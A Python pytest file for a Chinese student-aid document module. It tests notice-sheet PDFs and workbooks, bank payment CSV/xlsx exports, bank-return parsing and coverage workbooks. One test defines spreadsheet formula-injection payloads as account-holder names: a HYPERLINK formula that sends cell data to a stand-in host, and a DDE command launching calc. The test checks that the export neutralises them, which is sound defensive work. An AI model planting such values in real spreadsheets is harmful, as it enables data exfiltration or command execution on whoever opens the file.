"""The aid documents: notice sheet (PDF, xlsx), bank payment file and return, coverage workbook."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from jingzhun.aid.documents import (
    CoverageSheet,
    NoticeRow,
    NoticeSheet,
    cjk_font,
    coverage_xlsx,
    notice_sheet_pdf,
    notice_sheet_xlsx,
)
from jingzhun.core import pdf
from jingzhun.funds.documents import (
    BankFile,
    BankReturnError,
    BankRow,
    ReturnProblem,
    ReturnRow,
    bank_file_csv,
    bank_file_xlsx,
    parse_bank_return,
)

#: An 18-character resident ID, or a 15-digit old one, anywhere in a text.
ID_LIKE = re.compile(r"(?<!\d)(?:\d{17}[\dXx]|\d{15})(?!\d)")
PDFTOTEXT = shutil.which("pdftotext")
needs_pdftotext = pytest.mark.skipif(PDFTOTEXT is None, reason="pdftotext (poppler-utils) missing")


def _notice(rows: list[NoticeRow], phone: str = "0710-1234567") -> NoticeSheet:
    return NoticeSheet(
        school_name="城关镇第一小学",
        township_name="城关镇",
        school_year=2018,
        semester="autumn",
        period_start=dt.date(2018, 9, 20),
        period_end=dt.date(2018, 9, 27),
        objection_phone=phone,
        rows=rows,
    )


SAMPLE_ROWS = [
    NoticeRow("张三", "三年级(2)班", "生活费补助", Decimal("1250.00")),
    NoticeRow("李四", "三年级(10)班", "生活费补助", Decimal("1250.00")),
    NoticeRow("王五", "三年级(2)班", "免学费", Decimal("180.00"), "waiver"),
    NoticeRow("赵六", "一年级(1)班", "营养改善计划", Decimal("1000.50")),
    NoticeRow("李四", "三年级(10)班", "免学费", Decimal("180.00"), "waiver"),
]


def _pdf_text(pdf: bytes, tmp_path: Path) -> list[str]:
    """Return the text of each page (pdftotext -layout)."""
    path = tmp_path / "notice.pdf"
    path.write_bytes(pdf)
    assert PDFTOTEXT is not None
    out = subprocess.run(
        [PDFTOTEXT, "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    return out.split("\f")[:-1]


def _page_count(pdf: bytes) -> int:
    """Count the page objects (reportlab writes them uncompressed)."""
    return len(re.findall(rb"/Type /Page\b(?!s)", pdf))


# =========================================================================== notice rows


def test_notice_row_has_only_name_class_programme_amount_kind() -> None:
    fields = {f.name for f in dataclasses.fields(NoticeRow)}

    assert fields == {"student_name", "class_name", "programme", "amount", "kind"}
    for forbidden in ("id", "address", "phone", "birth", "mobile", "tel"):
        assert not [f for f in fields if forbidden in f], forbidden


def test_notice_row_refuses_float_and_sub_cent_amounts() -> None:
    with pytest.raises(TypeError):
        NoticeRow("张三", "一年级(1)班", "生活费补助", 1250.0)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="more than two decimals"):
        NoticeRow("张三", "一年级(1)班", "生活费补助", Decimal("1250.005"))
    with pytest.raises(ValueError, match="kind"):
        NoticeRow("张三", "一年级(1)班", "生活费补助", Decimal("1"), "loan")  # type: ignore[arg-type]


def test_notice_title() -> None:
    assert _notice([]).title == "城关镇第一小学 2018-2019学年秋季学期 家庭经济困难学生资助公示"
    spring = dataclasses.replace(_notice([]), semester="spring", school_year=2019)
    assert spring.title == "城关镇第一小学 2019-2020学年春季学期 家庭经济困难学生资助公示"


# =========================================================================== notice PDF


def test_notice_pdf_is_one_a4_page() -> None:
    pdf = notice_sheet_pdf(_notice(SAMPLE_ROWS))

    assert pdf.startswith(b"%PDF-")
    assert _page_count(pdf) == 1
    assert b"/MediaBox [ 0 0 595.2756 841.8898 ]" in pdf  # A4 portrait


@needs_pdftotext
def test_notice_pdf_text(tmp_path: Path) -> None:
    # when
    [page] = _pdf_text(notice_sheet_pdf(_notice(SAMPLE_ROWS)), tmp_path)

    # then
    lines = [" ".join(line.split()) for line in page.splitlines() if line.strip()]
    assert lines[0] == "城关镇第一小学 2018-2019学年秋季学期 家庭经济困难学生资助公示"
    assert lines[1:4] == [
        "所属乡镇：城关镇",
        "公示期：2018年9月20日至2018年9月27日",
        "公示期内如对名单有异议，请向县教育局反映，联系电话：0710-1234567。",
    ]
    start = lines.index("序号 姓名 班级 资助项目 金额(元)")
    # Sorted by class (一年级 before 三年级, (2) before (10)), then name by pinyin.
    assert lines[start + 1 : start + 6] == [
        "1 赵六 一年级(1)班 营养改善计划 1,000.50",
        "2 王五 三年级(2)班 免学费 免 180.00",
        "3 张三 三年级(2)班 生活费补助 1,250.00",
        "4 李四 三年级(10)班 免学费 免 180.00",
        "5 李四 三年级(10)班 生活费补助 1,250.00",
    ]
    totals = lines.index("资助项目 人次 金额(元)")
    assert lines[totals - 1] == "汇总"
    assert lines[totals + 1 : totals + 7] == [
        "生活费补助 2 2,500.00",
        "营养改善计划 1 1,000.50",
        "免学费 2 免 360.00",
        "现金发放合计 3 3,500.50",
        "免除合计 2 免 360.00",
        "总计 5 3,860.50",
    ]
    # (pdftotext drops the narrow spaces of "第 1 页 共 1 页")
    assert lines[-3:] == ["公示单位：城关镇第一小学", "2018年9月20日", "第1页共1页"]
    assert not ID_LIKE.search(page)


@needs_pdftotext
def test_notice_pdf_without_phone_or_rows(tmp_path: Path) -> None:
    [page] = _pdf_text(notice_sheet_pdf(_notice([], phone=" ")), tmp_path)

    lines = [" ".join(line.split()) for line in page.splitlines() if line.strip()]
    assert "公示期内如对名单有异议，请向县教育局反映。" in lines
    assert "（无）" in lines
    assert "合计 0 0.00" in lines


@needs_pdftotext
def test_notice_pdf_breaks_a_long_title_after_the_school(tmp_path: Path) -> None:
    notice = dataclasses.replace(
        _notice(SAMPLE_ROWS), school_name="城关镇中心学校第二教学点附属小学"
    )

    [page] = _pdf_text(notice_sheet_pdf(notice), tmp_path)

    lines = [line.strip() for line in page.splitlines() if line.strip()]
    assert lines[:2] == [
        "城关镇中心学校第二教学点附属小学",
        "2018-2019学年秋季学期家庭经济困难学生资助公示",
    ]


@needs_pdftotext
def test_notice_pdf_prints_the_middle_dot_of_names(tmp_path: Path) -> None:
    row = NoticeRow("买买提·艾力", "一年级(1)班", "生活费补助", Decimal("1250.00"))

    [page] = _pdf_text(notice_sheet_pdf(_notice([row])), tmp_path)

    # The built-in CID font has GB 2312's 间隔点 only as U+30FB (U+00B7 would print as a box),
    # so it is printed as U+30FB, which text extraction maps back to U+00B7.
    assert "买买提·艾力" in page
    fallback = pdf.FALLBACK_CJK_FONT
    assert pdf.printable("买买提·艾力", fallback) == "买买提\u30fb艾力"
    assert pdf.printable("买买提·艾力", "DejaVuSans-0") == "买买提·艾力"


def test_notice_pdf_of_120_rows_paginates() -> None:
    rows = [
        NoticeRow(f"学生{i:03d}", f"七年级({i % 4 + 1})班", "生活费补助", Decimal("1250.00"))
        for i in range(120)
    ]

    pdf = notice_sheet_pdf(_notice(rows))

    assert _page_count(pdf) == 4


@needs_pdftotext
def test_notice_pdf_pages_repeat_the_header_and_are_numbered(tmp_path: Path) -> None:
    # given
    rows = [
        NoticeRow(f"学生{i:03d}", f"七年级({i % 4 + 1})班", "生活费补助", Decimal("1250.00"))
        for i in range(120)
    ]

    # when
    pages = _pdf_text(notice_sheet_pdf(_notice(rows)), tmp_path)

    # then
    assert len(pages) == 4
    for number, page in enumerate(pages, start=1):
        compact = [" ".join(line.split()) for line in page.splitlines() if line.strip()]
        assert "序号 姓名 班级 资助项目 金额(元)" in compact
        assert compact[-1].replace(" ", "") == f"第{number}页共4页"
    text = "\f".join(pages)
    assert text.count("1,250.00") == 120
    last = [" ".join(line.split()) for line in pages[-1].splitlines() if line.strip()]
    assert last[-6:-3] == [
        "资助项目 人次 金额(元)",
        "生活费补助 120 150,000.00",
        "合计 120 150,000.00",
    ]
    assert not ID_LIKE.search(text)


def test_cjk_font_takes_first_readable_candidate_else_cid_font(monkeypatch: Any) -> None:
    noto = "/usr/share/fonts/opentype/noto/NotoSansCJK-Regular.ttc"
    dejavu = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"
    find = cjk_font.__wrapped__

    monkeypatch.setattr(pdf, "CJK_FONT_CANDIDATES", (("/nonexistent/font.ttf", 0),))
    assert find() == "STSong-Light"

    if not (Path(noto).is_file() and Path(dejavu).is_file()):
        pytest.skip("system fonts missing")
    # Noto CJK has CFF outlines, which reportlab cannot embed: the next candidate is taken.
    monkeypatch.setattr(pdf, "CJK_FONT_CANDIDATES", ((noto, 2), (dejavu, 0)))
    assert find() == "DejaVuSans-0"


# =========================================================================== notice xlsx


def _cells(data: bytes) -> tuple[Any, list[tuple[Any, ...]]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    return sheet, [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_notice_xlsx_cells() -> None:
    # when
    sheet, rows = _cells(notice_sheet_xlsx(_notice(SAMPLE_ROWS)))

    # then
    assert sheet.title == "公示名单"
    title = "城关镇第一小学 2018-2019学年秋季学期 家庭经济困难学生资助公示"
    assert rows == [
        (title, None, None, None, None),
        ("所属乡镇：城关镇", None, None, None, None),
        ("公示期：2018年9月20日至2018年9月27日", None, None, None, None),
        (
            "公示期内如对名单有异议，请向县教育局反映，联系电话：0710-1234567。",
            None,
            None,
            None,
            None,
        ),
        (None, None, None, None, None),
        ("序号", "姓名", "班级", "资助项目", "金额(元)"),
        (1, "赵六", "一年级(1)班", "营养改善计划", 1000.5),
        (2, "王五", "三年级(2)班", "免学费", 180),
        (3, "张三", "三年级(2)班", "生活费补助", 1250),
        (4, "李四", "三年级(10)班", "免学费", 180),
        (5, "李四", "三年级(10)班", "生活费补助", 1250),
        (None, None, None, None, None),
        ("汇总", None, None, None, None),
        ("资助项目", None, None, "人次", "金额(元)"),
        ("生活费补助", None, None, 2, 2500),
        ("营养改善计划", None, None, 1, 1000.5),
        ("免学费", None, None, 2, 360),
        ("现金发放合计", None, None, 3, 3500.5),
        ("免除合计", None, None, 2, 360),
        ("总计", None, None, 5, 3860.5),
        (None, None, None, None, None),
        (None, None, None, "公示单位：城关镇第一小学", None),
    ]
    amount_formats = [sheet.cell(row=r, column=5).number_format for r in range(7, 12)]
    assert amount_formats == ["#,##0.00", '"免 "#,##0.00', "#,##0.00", '"免 "#,##0.00', "#,##0.00"]
    total_formats = [sheet.cell(row=r, column=5).number_format for r in range(15, 21)]
    assert total_formats == [
        "#,##0.00",
        "#,##0.00",
        '"免 "#,##0.00',
        "#,##0.00",
        '"免 "#,##0.00',
        "#,##0.00",
    ]
    assert sheet.print_title_rows == "$6:$6"
    assert sheet.oddFooter.center.text == "第 &P 页 共 &N 页"
    assert sheet.page_setup.paperSize == 9
    assert sheet.page_setup.orientation == "portrait"


def test_notice_xlsx_amounts_exact_to_the_cent() -> None:
    rows = [NoticeRow(f"学生{i}", "一年级(1)班", "生活费补助", Decimal("0.10")) for i in range(3)]
    rows.append(NoticeRow("大额", "一年级(1)班", "生活费补助", Decimal("9876543.21")))

    _, cells = _cells(notice_sheet_xlsx(_notice(rows)))

    assert ("合计", None, None, 4, 9876543.51) in cells
    assert f"{Decimal(str(9876543.51)):,.2f}" == "9,876,543.51"


def test_notice_xlsx_single_kind_has_one_total() -> None:
    rows = [NoticeRow("王五", "一年级(1)班", "免学费", Decimal("180.00"), "waiver")]

    sheet, cells = _cells(notice_sheet_xlsx(_notice(rows)))

    assert cells[-4:-2] == [("免学费", None, None, 1, 180), ("合计", None, None, 1, 180)]
    assert sheet.cell(row=len(cells) - 2, column=5).number_format == '"免 "#,##0.00'


# =========================================================================== bank file

BATCH = BankFile(
    batch_reference="DF2018090001",
    rows=[
        BankRow("6222021234567890123", "张三", Decimal("1250.00"), "P0001", "生活费补助"),
        BankRow("6217000010012345678", "李四", Decimal("12345.60"), "P0002", "营养改善计划"),
        BankRow("6228480012345678901", "王五", Decimal("0.05"), "P0003", ""),
    ],
)


def test_bank_file_csv_layout() -> None:
    data = bank_file_csv(BATCH)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").split("\r\n") == [
        "批次号,DF2018090001,笔数,3,总金额,13595.65",
        "序号,账号,户名,金额,附言/参考号,备注",
        "1,6222021234567890123,张三,1250.00,P0001,生活费补助",
        "2,6217000010012345678,李四,12345.60,P0002,营养改善计划",
        "3,6228480012345678901,王五,0.05,P0003,",
        "合计,3,,13595.65,,",
        "",
    ]


def test_bank_file_xlsx_cells() -> None:
    sheet, rows = _cells(bank_file_xlsx(BATCH))

    assert sheet.title == "代发明细"
    assert rows == [
        ("批次号", "DF2018090001", "笔数", 3, "总金额", 13595.65),
        ("序号", "账号", "户名", "金额", "附言/参考号", "备注"),
        (1, "6222021234567890123", "张三", 1250, "P0001", "生活费补助"),
        (2, "6217000010012345678", "李四", 12345.6, "P0002", "营养改善计划"),
        (3, "6228480012345678901", "王五", 0.05, "P0003", ""),
        ("合计", 3, None, 13595.65, None, None),
    ]
    assert sheet["D3"].number_format == "0.00"
    assert sheet["B3"].number_format == "@"


def test_bank_row_checks() -> None:
    with pytest.raises(ValueError, match="digits"):
        BankRow("6222 0212", "张三", Decimal("1.00"), "P1")
    with pytest.raises(ValueError, match="holder is empty"):
        BankRow("62220212", " ", Decimal("1.00"), "P1")
    with pytest.raises(ValueError, match="positive"):
        BankRow("62220212", "张三", Decimal("0.00"), "P1")
    with pytest.raises(TypeError):
        BankRow("62220212", "张三", 1.0, "P1")  # type: ignore[arg-type]


HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"点击")'


def test_bank_file_is_written_for_any_name_and_runs_nothing() -> None:
    hostile = BankFile(
        batch_reference="DF2018090002",
        rows=[
            BankRow("6222021234567890123", HOSTILE, Decimal("10.00"), "P0001", "生活费补助"),
            BankRow("6217000010012345678", "+cmd|' /C calc'!A0", Decimal("1"), "P0002", "@SUM(1)"),
            BankRow("6228480012345678901", "-2+3", Decimal("2.00"), "P0003", "", "张\r\n=1+1"),
        ],
    )
    # a name a spreadsheet would run: the CSV keeps its text after an apostrophe, one line each
    lines = bank_file_csv(hostile).decode("utf-8-sig").split("\r\n")
    rows = list(csv.reader(lines[2:5]))
    assert [r[2] for r in rows] == ["'" + HOSTILE, "'+cmd|' /C calc'!A0", "-2+3"]
    assert rows[1][5] == "'@SUM(1)" and rows[2][5] == "张  =1+1"
    assert len(lines) == 7 and all(len(r) == 6 for r in csv.reader(lines[:6]))
    for row in csv.reader(lines[:6]):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-2+3"  # digits only: nothing to run
    # the workbook keeps the text exactly, as a text cell
    _sheet, cells = _cells(bank_file_xlsx(hostile))
    assert [r[2] for r in cells[2:5]] == [HOSTILE, "+cmd|' /C calc'!A0", "-2+3"]
    with zipfile.ZipFile(io.BytesIO(bank_file_xlsx(hostile))) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


def _bank_echo(data: bytes, results: dict[str, tuple[str, str]], encoding: str) -> bytes:
    """Return our CSV as a bank returns it: 状态 and 失败原因 appended to every row."""
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for line in lines:
        if line[0] == "序号":
            writer.writerow([*line, "状态", "失败原因"])
        elif line[0].isdigit():
            writer.writerow([*line, *results[line[4]]])
        else:
            writer.writerow([*line, "", ""])
    return out.getvalue().encode(encoding)


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_bank_csv_round_trip(encoding: str) -> None:
    # given
    results = {"P0001": ("成功", ""), "P0002": ("失败", "户名不符"), "P0003": ("成功", "")}
    returned = _bank_echo(bank_file_csv(BATCH), results, encoding)

    # when
    rows = parse_bank_return(returned, "回盘.CSV")

    # then
    assert rows == [
        ReturnRow(3, "P0001", "6222021234567890123", Decimal("1250.00"), "paid", ""),
        ReturnRow(4, "P0002", "6217000010012345678", Decimal("12345.60"), "failed", "户名不符"),
        ReturnRow(5, "P0003", "6228480012345678901", Decimal("0.05"), "paid", ""),
    ]
    assert sum(r.amount for r in rows) == BATCH.total


def test_gb18030_return_with_english_headers() -> None:
    text = (
        "Reference,Account,Amount,Status,Reason\r\n"
        'P0001,6222021234567890123,"1,250.00",PAID,\r\n'
        "P0002,6217000010012345678,12345.6,failed,账户已冻结（𠀀）\r\n"
    )

    rows = parse_bank_return(text.encode("gb18030"), "return.csv")

    assert rows == [
        ReturnRow(2, "P0001", "6222021234567890123", Decimal("1250.00"), "paid", ""),
        ReturnRow(
            3, "P0002", "6217000010012345678", Decimal("12345.60"), "failed", "账户已冻结（𠀀）"
        ),
    ]


def test_return_errors_name_line_column_value_and_reason() -> None:
    # given
    text = (
        "参考号,账号,金额,状态,失败原因\n"
        "P0001,6222021234567890123,1250.00,成功,\n"
        ",6222021234567890124,12.345,成功,\n"
        "P0003,62170000ab,abc,退回,\n"
        "P0004,6228480012345678901,-5.00,,\n"
        "P0005,6228480012345678902,100,失败,余额不足\n"
    )

    # when
    with pytest.raises(BankReturnError) as caught:
        parse_bank_return(text.encode("utf-8"), "return.csv")

    # then
    assert caught.value.problems == [
        ReturnProblem(3, "参考号", "", "缺少参考号"),
        ReturnProblem(3, "金额", "12.345", "金额应为不超过两位小数的数字"),
        ReturnProblem(
            4, "账号", "62170000ab", "账号应为数字（Excel 中请将账号设为文本，否则会丢失位数）"
        ),
        ReturnProblem(4, "金额", "abc", "金额应为不超过两位小数的数字"),
        ReturnProblem(4, "状态", "退回", "状态应为“成功”或“失败”"),
        ReturnProblem(5, "金额", "-5.00", "金额不能为负数"),
        ReturnProblem(5, "状态", "", "缺少状态"),
    ]
    message = str(caught.value)
    assert message.startswith("银行回盘文件有 7 处错误：\n第 3 行 参考号“”：缺少参考号\n")
    assert "第 4 行 状态“退回”：状态应为“成功”或“失败”" in message


def test_return_missing_column_and_bad_file_type() -> None:
    with pytest.raises(BankReturnError) as caught:
        parse_bank_return("参考号,账号,金额\nP1,123456,1.00\n".encode(), "return.csv")
    assert caught.value.problems == [ReturnProblem(1, "状态", "", "缺少该列")]

    with pytest.raises(BankReturnError) as caught:
        parse_bank_return(b"%PDF-1.4", "return.pdf")
    assert caught.value.problems == [
        ReturnProblem(0, "文件", "return.pdf", "不支持的文件类型，应为 .csv 或 .xlsx")
    ]


def _xlsx(rows: list[list[object]]) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet("回盘")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, str):
                sheet.write_string(r, c, value)
            elif value is not None:
                sheet.write_number(r, c, value)  # type: ignore[arg-type]
    workbook.close()
    return buffer.getvalue()


def test_xlsx_return_rounds_number_cells_half_up() -> None:
    # given: a title row, then the header; amounts as number cells (one computed, 12.345)
    data = _xlsx(
        [
            ["代发结果 DF2018090001"],
            ["参考号", "账号", "金额(元)", "处理状态", "失败原因"],
            ["P0001", "6222021234567890123", 1250, "交易成功", None],
            ["P0002", "6217000010012345678", 12.345, "交易失败", "账号不存在"],
            ["P0003", "6228480012345678901", 0.1 + 0.2, "成功", None],
            ["P0004", "123456789012", "99.5", "成功", None],
        ]
    )

    # when
    rows = parse_bank_return(data, "return.xlsx")

    # then
    assert rows == [
        ReturnRow(3, "P0001", "6222021234567890123", Decimal("1250.00"), "paid", ""),
        ReturnRow(4, "P0002", "6217000010012345678", Decimal("12.35"), "failed", "账号不存在"),
        ReturnRow(5, "P0003", "6228480012345678901", Decimal("0.30"), "paid", ""),
        ReturnRow(6, "P0004", "123456789012", Decimal("99.50"), "paid", ""),
    ]


def test_xlsx_return_rejects_account_stored_as_number_and_text_with_3_decimals() -> None:
    data = _xlsx(
        [
            ["参考号", "账号", "金额", "状态"],
            ["P0001", 6222021234567890123, 1250, "成功"],
            ["P0002", "6217000010012345678", "12.345", "成功"],
        ]
    )

    with pytest.raises(BankReturnError) as caught:
        parse_bank_return(data, "return.xlsx")

    assert caught.value.problems == [
        ReturnProblem(
            2,
            "账号",
            "6.22202123456789E+18",
            "账号应为数字（Excel 中请将账号设为文本，否则会丢失位数）",
        ),
        ReturnProblem(3, "金额", "12.345", "金额应为不超过两位小数的数字"),
    ]


# =========================================================================== coverage


def test_coverage_xlsx_cells_and_formats() -> None:
    # given
    sheets = [
        CoverageSheet(
            "各乡镇覆盖率",
            ["乡镇", "应助人数", "已助人数", "金额(元)", "覆盖率"],
            [
                ["城关镇", 120, 118, Decimal("147500.00"), 118 / 120],
                ["河口乡", 0, 0, Decimal("0.00"), None],
            ],
        ),
        CoverageSheet("a/b:c", ["项目"], [["生活费补助"]]),
    ]

    # when
    workbook = openpyxl.load_workbook(io.BytesIO(coverage_xlsx(sheets)))

    # then
    assert workbook.sheetnames == ["各乡镇覆盖率", "a_b_c"]
    first = workbook["各乡镇覆盖率"]
    assert [tuple(r) for r in first.iter_rows(values_only=True)] == [
        ("各乡镇覆盖率", None, None, None, None),
        ("乡镇", "应助人数", "已助人数", "金额(元)", "覆盖率"),
        ("城关镇", 120, 118, 147500, 118 / 120),
        ("河口乡", 0, 0, 0, None),
    ]
    assert first["D3"].number_format == "#,##0.00"
    assert first["E3"].number_format == "0.0%"
    assert first["B3"].number_format == "0"
    assert first.freeze_panes == "A3"
    second = workbook["a_b_c"]
    assert [tuple(r) for r in second.iter_rows(values_only=True)] == [
        ("a/b:c",),
        ("项目",),
        ("生活费补助",),
    ]


def test_coverage_sheet_checks_values() -> None:
    with pytest.raises(ValueError, match="between 0 and 1"):
        CoverageSheet("t", ["率"], [[1.5]])
    with pytest.raises(ValueError, match="1 values for 2 headers"):
        CoverageSheet("t", ["a", "b"], [["x"]])
    with pytest.raises(TypeError):
        CoverageSheet("t", ["a"], [[True]])
